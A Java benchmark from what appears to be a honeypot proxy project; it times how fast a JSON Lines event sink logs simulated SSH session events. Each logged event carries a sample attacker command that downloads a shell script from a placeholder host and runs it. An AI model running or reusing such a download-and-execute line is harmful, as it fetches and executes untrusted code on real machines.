package io.honeypool.proxy.events.jsonl;

import io.honeypool.common.lease.LoginProtocol;
import io.honeypool.proxy.events.EventDispatcher;
import io.honeypool.proxy.events.EventIdentity;
import io.honeypool.proxy.events.EventLog;
import io.honeypool.proxy.events.EventSettings;
import io.honeypool.proxy.events.HoneypotEvent;
import io.honeypool.proxy.events.SensorIdentity;
import io.honeypool.proxy.events.SinkObserver;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.util.List;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicLong;
import java.util.concurrent.locks.LockSupport;
import org.springframework.util.unit.DataSize;
import tools.jackson.databind.json.JsonMapper;

/** Measures the JSON Lines sink behind its queue: arguments are a file and a number; prints events per second. */
final class EventBench {

    private static final long MOST_WAITING = 50_000;
    private static final int WARM_UP = 50_000;
    private static final double NANOS = 1e9;

    private EventBench() {}

    public static void main(String[] arguments) throws Exception {
        Path file = Path.of(arguments[0]);
        int number = Integer.parseInt(arguments[1]);
        AtomicLong delivered = new AtomicLong();
        SinkObserver observer = new SinkObserver() {
            @Override
            public void delivered(String sink) {
                delivered.incrementAndGet();
            }
        };
        JsonLinesSink sink = new JsonLinesSink(
                file,
                JsonMapper.shared(),
                new EventSettings.Rotation(DataSize.ofMegabytes(100), true, 3),
                Clock.systemUTC());
        try (EventDispatcher dispatcher = new EventDispatcher(List.of(sink), Clock.systemUTC(), observer)) {
            EventLog log = dispatcher.open(new EventIdentity(
                    "0123456789ab",
                    LoginProtocol.SSH,
                    "192.0.2.7",
                    1,
                    "192.0.2.1",
                    22,
                    new SensorIdentity("bench", new UUID(0, 1))));
            send(log, WARM_UP, 1, delivered);
            long began = System.nanoTime();
            send(log, number, WARM_UP + 1, delivered);
            System.out.println((long) (number * NANOS / (System.nanoTime() - began)));
        } finally {
            Files.deleteIfExists(file);
        }
    }

    private static void send(EventLog log, int number, long before, AtomicLong delivered) {
        for (int i = 0; i < number; i++) {
            while (before + i - delivered.get() > MOST_WAITING) {
                LockSupport.parkNanos(50_000);
            }
            log.record(new HoneypotEvent.CommandInput("cd /tmp; wget http://192.0.2.1/x.sh; sh x.sh # " + i));
        }
        while (delivered.get() < before + number) {
            LockSupport.parkNanos(50_000);
        }
    }
}
